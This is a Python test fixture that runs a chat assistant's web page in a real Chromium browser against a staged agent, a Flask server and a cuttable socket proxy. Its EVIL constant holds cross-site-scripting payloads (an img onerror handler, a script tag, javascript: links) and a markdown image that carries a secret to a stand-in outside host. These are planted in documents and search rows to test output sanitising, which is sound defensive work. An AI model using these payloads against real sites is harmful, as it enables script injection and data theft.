"""The chat page in a real browser, before a server whose agent says what a test tells it to."""

import contextlib
import os
import shutil
import socket
import threading
from collections.abc import Iterable, Iterator
from typing import Any

from flask import Flask
from harness import KEYS, PATIENCE, Outside, World
from playwright.sync_api import Browser, BrowserType, Page
from werkzeug.serving import WSGIRequestHandler, make_server

from sophia.bootstrap.demo import DemoCompany
from sophia.domain.agents import AgentEvent, Cited, Spoken, ToolCall, Turn
from sophia.domain.citation import Quote
from sophia.domain.lookups import LookupCaps
from sophia.domain.tickets import Ticket
from sophia.entrypoints.http.app import create_app
from sophia.errors import Unavailable
from sophia.ports.agent_runtime import ToolBox
from sophia.testing.fakes.security_source import MemorySecuritySource
from sophia.testing.fakes.ticket_desk import MemoryTicketDesk

QUOTED = "Keys are rotated every 90 days 🔁, without exception."
EVIL = (
    '<img src=x onerror="window.pwned=1"><script>window.pwned=1</script> '
    "![x](https://elsewhere.example/x.png?d=secret) [open](javascript:window.pwned=1) <javascript:window.pwned=1>"
)
DOCUMENTS = {
    # Astral characters before the quote: a code point is two UTF-16 units there.
    "keys.md": f"# 🔐 Keys 🗝️\n\n😀🧯 Read this first. {QUOTED} {EVIL}\n",
    "backups.md": "# Backups\n\nBackups are made every night at two. The night shift checks them.\n",
}
LOGINS = "index=auth action=failure | stats count by user, origin | sort - count"
ROW = "| m.serrano | 203.0.113.66 | 47 |"
FOUND = (
    ("j.robles", "203.0.113.66", "22"),
    ("p.ibarra", f"203.0.113.66 {EVIL}", "15"),
    *((f"user-{number:02}", "192.0.2.40", "1") for number in range(30)),
    ("m.serrano", "203.0.113.66", "47"),
    ("beyond the cap", "192.0.2.41", "1"),
)
PIECES = [f"Piece {number} of the answer. " for number in range(1, 9)]

DEMO = (
    DemoCompany("acme", "Acme", KEYS["acme"], ("ana", "luis", "reader"), ("How often are keys rotated?",)),
    DemoCompany("globex", "Globex", KEYS["globex"], ("ana",), ()),
)


class Desk(MemoryTicketDesk):
    """Takes every ticket, unless it is down."""

    is_down = False

    def open(self, ticket: Ticket) -> str:
        if self.is_down:
            raise Unavailable("ticket desk", "does not answer")
        return super().open(ticket)


class Stage(Outside):
    """An outside world whose agent plays a part, named by a word of the question.

    Attributes:
        cue: what a piece of a `slowly` told answer waits for.
    """

    def __init__(self) -> None:
        super().__init__()
        self.cue = threading.Semaphore(0)
        self.desk = Desk()
        self.sources["acme"][0].documents = dict(DOCUMENTS)
        searches = {LOGINS: (("user", "origin", "failed logins"), FOUND), "nothing": (("user",), ())}
        caps, written = LookupCaps(rows=len(FOUND) - 1), frozenset({"outputlookup"})
        self.systems["acme"] = [MemorySecuritySource(tables=searches, refused=written, caps=caps)]

    def go_on(self, pieces: int = 1) -> None:
        self.cue.release(pieces)

    def script(self, turn: Turn, tools: ToolBox) -> Iterable[AgentEvent]:
        self.begun.put(turn.run_id)
        for word in turn.question.lower().split():
            match word.strip("?.,"):
                case "slowly":
                    for piece in PIECES:
                        assert self.cue.acquire(timeout=PATIENCE)
                        yield Spoken(piece, claim=False)
                case "endlessly":
                    while not self.gate.wait(0.02):
                        yield Spoken("and so on ", claim=False)
                case "rotated":
                    yield from _quote(turn)
                case "alike":
                    for number, words in enumerate((QUOTED, "Read this first."), 1):
                        passage = next(passage for passage in turn.passages if QUOTED in passage.text)
                        start = passage.start + passage.text.index(words)
                        yield Cited(Quote(number, passage, start, start + len(words), words))
                        yield Spoken(f" {words} [{number}].")
                case "markdown":
                    yield Spoken(MARKDOWN, claim=False)
                case "dragons":
                    yield Spoken(" Dragons 😀 are made of cheese.")
                case "evil":
                    yield Spoken(EVIL, claim=False)
                case "tool":
                    tools.call(ToolCall("call-1", "rag_search", {"query": "backups"}))
                    tools.call(ToolCall("call-2", "create_ticket", {}))
                case "logins":
                    found = tools.call(_look(LOGINS)).passages[0]
                    start = found.text.index(ROW)
                    yield Cited(Quote(1, found, start, start + len(ROW), ROW))
                    yield Spoken("There were 47 failed logins of m.serrano [1].")
                case "nothing":
                    tools.call(_look("nothing"))
                    yield Spoken("There is nothing.", claim=False)
                case "written":
                    tools.call(_look("outputlookup"))
                    yield Spoken("That was not looked up.", claim=False)
                case "misquote":
                    best = turn.passages[0]
                    yield Cited(Quote(1, best, best.start, best.end, "never said"))
                    yield Spoken("It was never said [1].")
                case "unanswered":
                    raise Unavailable("model", "does not answer", 7)


MARKDOWN = """\
### Steps

1. Open the **console**
2. Run `show jobs`

```
set a < b
```
- first
- second

| user | failed |
|---|---|
| **ana** | 3 |
| a \\| b | |
A line
and its end
"""


def _look(search: str) -> ToolCall:
    return ToolCall("call-1", "splunk_query", {"operation": "search", "query": search, "earliest": "-12h"})


def _quote(turn: Turn) -> Iterable[AgentEvent]:
    passage = next(passage for passage in turn.passages if QUOTED in passage.text)
    start = passage.start + passage.text.index(QUOTED)
    yield Cited(Quote(1, passage, start, start + len(QUOTED), QUOTED))
    yield Spoken(f"{QUOTED.removesuffix('.')} [1].")


class _Quiet(WSGIRequestHandler):
    protocol_version = "HTTP/1.1"

    def log(self, *_: Any) -> None:
        pass


@contextlib.contextmanager
def served(app: Flask) -> Iterator[int]:
    """The port at which an app is served over real sockets."""
    server = make_server("127.0.0.1", 0, app, threaded=True, request_handler=_Quiet)
    server.daemon_threads = True
    serving = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.02})
    serving.start()
    try:
        yield server.server_port
    finally:
        server.shutdown()
        serving.join()
        server.server_close()


class Wire:
    """A way to a port that can be cut, mid-stream, and mended."""

    def __init__(self, port: int) -> None:
        self._target = port
        self._open: set[socket.socket] = set()
        self._lock = threading.Lock()
        self.is_down = False
        self._listening = socket.create_server(("127.0.0.1", 0))
        self.port: int = self._listening.getsockname()[1]
        threading.Thread(target=self._accept, daemon=True).start()

    def cut(self) -> None:
        self.is_down = True
        with self._lock:
            for end in self._open:
                _hang_up(end)
            self._open.clear()

    def mend(self) -> None:
        self.is_down = False

    def close(self) -> None:
        self.cut()
        _hang_up(self._listening)

    def _accept(self) -> None:
        while True:
            try:
                near, _ = self._listening.accept()
            except OSError:
                return
            if self.is_down:
                near.close()
                continue
            far = socket.create_connection(("127.0.0.1", self._target))
            with self._lock:
                self._open |= {near, far}
            for ends in ((near, far), (far, near)):
                threading.Thread(target=self._pass_on, args=ends, daemon=True).start()

    def _pass_on(self, source: socket.socket, target: socket.socket) -> None:
        with contextlib.suppress(OSError):  # it was cut
            while data := source.recv(65536):
                target.sendall(data)
        for end in (source, target):
            with self._lock:
                self._open.discard(end)
            _hang_up(end)


def _hang_up(end: socket.socket) -> None:
    with contextlib.suppress(OSError):  # the other side was faster
        end.shutdown(socket.SHUT_RDWR)
    end.close()


def launched(chromium: BrowserType, *arguments: str) -> Browser:
    """Chromium as the machine has it (`make install` sees to that)."""
    path = shutil.which("chromium") or shutil.which("google-chrome")
    assert path, "the page is tested in Chromium, and there is none: `make install` says how to get it"
    sandbox = ["--no-sandbox"] if os.geteuid() == 0 else []
    return chromium.launch(executable_path=path, args=[*sandbox, *arguments])


class Site:
    """A served SOPHIA, and the pages that a test opens of it.

    Attributes:
        faults: what the browser complains of: broken policies, errors of scripts.
    """

    def __init__(self, world: World, stage: Stage, browser: Browser, port: int) -> None:
        self.world = world
        self.stage = stage
        self.port = port
        self.wire = Wire(port)
        self.faults: list[str] = []
        self._browser = browser
        self._contexts: list[Any] = []

    def open(self, path: str = "/", *, host: str = "127.0.0.1", locale: str = "en-GB", **context: Any) -> Page:
        page = self.context(locale=locale, **context).new_page()
        return self.visit(page, path, host=host)

    def visit(self, page: Page, path: str = "/", *, host: str = "127.0.0.1") -> Page:
        page.goto(f"http://{host}:{self.wire.port}{path}")
        return page

    def context(self, **options: Any) -> Any:
        options.setdefault("viewport", {"width": 1280, "height": 800})
        context = self._browser.new_context(**options)
        context.set_default_timeout(PATIENCE * 1000)
        context.on("console", lambda message: self._complain(message.type, message.text))
        context.on("weberror", lambda error: self.faults.append(str(error.error)))
        self._contexts.append(context)
        return context

    def _complain(self, kind: str, text: str) -> None:
        # That a request failed is what some tests are about.
        if kind in ("error", "warning") and not text.startswith("Failed to load resource"):
            self.faults.append(text)

    def close(self) -> None:
        self.stage.gate.set()
        self.stage.go_on(1000)
        for context in self._contexts:
            context.close()
        self.wire.close()


def app_of(world: World) -> Flask:
    return create_app(world.sophia.services, loopback_only=True, demo=DEMO)
